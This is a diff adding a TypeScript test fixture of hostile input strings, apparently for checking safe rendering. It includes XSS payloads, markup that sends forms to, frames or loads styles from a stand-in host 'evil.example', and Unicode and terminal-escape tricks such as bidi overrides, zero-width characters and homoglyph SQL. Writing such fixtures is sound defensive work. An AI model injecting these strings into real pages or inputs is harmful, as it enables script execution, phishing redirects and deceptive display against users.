@@ -1,0 +1,22 @@
+/** What somebody writes who wants to be more than text. */
+export const hostileTexts: Readonly<Record<string, string>> = {
+  'a script': `<script>alert('script')</script>`,
+  'a script that ends a title': `</title></textarea></style></script></pre><script>alert(1)</script>`,
+  'an image with a handler': `<img src=x onerror="alert('image')"><svg onload=alert(1)>`,
+  'a form that sends elsewhere': `</form><form action="https://evil.example"><button name=go>Approve</button></form>`,
+  'the end of an attribute': `" autofocus onfocus="alert('attribute')" x="`,
+  'a single quote': `' onmouseover='alert(1)`,
+  'a style': `<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>`,
+  'a frame and a base': `<base href=https://evil.example/><iframe src=https://evil.example></iframe>`,
+  'a refresh': `<meta http-equiv=refresh content="0;url=https://evil.example">`,
+  'an address of a script': `javascript:alert('address')`,
+  'a template of a framework': '{{constructor.constructor("alert(1)")()}} ${alert(1)} `${alert(1)}`',
+  'text that reads backwards': 'select \u202e)1(evil_etirw\u202c -- harmless \u2066\u2069',
+  'what nobody sees': 'de\u200blete\u00ad from\u2060 in\ufeffvoices\u{e0041}',
+  'codes of a terminal': '\u001b[2J\u001b[1;31mapproved\u001b[0m\u0007\u0008',
+  'look-alikes': 'delete from \u0456nvo\u0456ces where \u0430mount > 1',
+  'letters that run the other way': 'update t set a = \u05d0\u05d1\u05d2 + 1, b = \u0627\u0644\u0639 where id = 7',
+  'ends of lines and of events': 'select 1\r\n\r\nevent: over\ndata: {}\n\nid: 1\u2028x\u2029y',
+  'an entity': '&lt;b&gt; &#60;script&#62; &amp;amp;',
+  'a very long line': 'x'.repeat(6_000),
+}
